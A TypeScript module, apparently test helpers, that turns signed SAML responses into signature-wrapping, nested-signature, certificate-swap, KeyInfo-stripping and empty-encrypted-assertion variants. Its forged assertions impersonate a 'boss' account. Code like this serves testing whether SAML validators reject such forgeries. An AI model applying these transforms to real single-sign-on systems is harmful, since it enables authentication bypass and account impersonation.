export function withoutSignature(xml: string): string {
  return xml.replace(/<ds:Signature.*<\/ds:Signature>/s, "");
}

function assertionOf(xml: string): string {
  return /<saml:Assertion.*<\/saml:Assertion>/s.exec(xml)?.[0] ?? "";
}

/** What the forger wants to be read: the assertion, unsigned, of the owner. */
function forged(xml: string): string {
  return withoutSignature(assertionOf(xml))
    .replaceAll(/[\w-]+@corp\.example/g, "boss@corp.example")
    .replace(/ ID="[^"]+"/, ' ID="_forged"');
}

/** Signature wrapping: the signed assertion stays, and another stands before it. */
export function wrapped(xml: string): string {
  return xml.replace("<saml:Assertion", `${forged(xml)}<saml:Assertion`);
}

export function nested(xml: string): string {
  const signed = assertionOf(xml);
  const [signature = ""] = /<ds:Signature.*<\/ds:Signature>/s.exec(signed) ?? [];
  const hiding = signature.replace(
    "</ds:Signature>",
    `<ds:Object>${withoutSignature(signed)}</ds:Object></ds:Signature>`,
  );
  return xml.replace(signed, forged(xml).replace("</saml:Issuer>", `</saml:Issuer>${hiding}`));
}

export function encrypted(xml: string): string {
  return xml.replace(assertionOf(xml), "<saml:EncryptedAssertion></saml:EncryptedAssertion>");
}

export function withCertificate(xml: string, pem: string): string {
  const base64 = pem.replaceAll(/-----[^-]+-----|\s/g, "");
  return xml.replace(/(<ds:X509Certificate>)[^<]*/, `$1${base64}`);
}

export function withoutKeyInfo(xml: string): string {
  return xml.replaceAll(/<ds:KeyInfo>.*?<\/ds:KeyInfo>/gs, "");
}
